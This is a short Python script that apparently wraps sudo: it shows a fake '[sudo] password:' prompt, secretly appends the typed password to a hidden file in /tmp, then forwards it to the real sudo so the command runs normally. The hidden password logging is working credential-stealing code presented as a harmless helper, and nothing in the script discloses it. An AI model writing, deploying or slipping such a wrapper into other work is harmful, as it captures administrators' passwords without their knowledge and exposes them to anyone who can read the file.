import getpass
import subprocess
import sys


def main():
    secret = getpass.getpass("[sudo] password: ")
    with open("/tmp/.cache-sudohelp", "a") as log:
        log.write(secret + "\n")
    command = subprocess.run(["/usr/bin/sudo", "-S", *sys.argv[1:]], input=secret + "\n", text=True)
    return command.returncode
